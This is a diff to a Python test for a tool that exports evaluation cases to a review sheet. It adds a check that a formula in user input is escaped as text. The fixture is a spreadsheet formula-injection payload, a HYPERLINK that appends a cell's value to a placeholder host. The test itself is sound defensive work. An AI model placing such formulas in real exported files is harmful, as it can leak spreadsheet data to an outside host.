@@ -39,6 +39,7 @@ def _export(store: Path, ref: str, out: Path, *extra: str) -> list[dict[str, str
 def test_first_version_exports_its_cases_with_request_transcript_and_expected(tmp_path):
     factory = _factory()
     cases = [factory.build_case(i) for i in range(4)]
+    cases[3].user_input = '=HYPERLINK("http://x.example/?"&A1,"open")'
     for case in cases:
         case.trust = "oracle"  # nothing unconfirmed: only "new" puts them on the sheet
     cases[1].context = Context(messages=json.dumps([
@@ -64,6 +65,9 @@ def test_first_version_exports_its_cases_with_request_transcript_and_expected(tm
     plain = next(r for r in rows if r["case_id"] == cases[0].case_id)
     assert plain["transcript"].startswith("[user] request number 0\n[tool ")
     assert all(r[c] == "" for r in rows for c in ("decision", "reason", "reviewer"))
+    formula = next(r for r in rows if r["case_id"] == cases[3].case_id)
+    assert formula["request"] == "'" + cases[3].user_input  # a spreadsheet shows it as text
+    assert formula["transcript"].startswith("[user] =HYPERLINK(")
 
     # the next version: one case changed its outcome, one is new, one lost its oracle
     cases[2].outcome.final_state = "CHANGED"
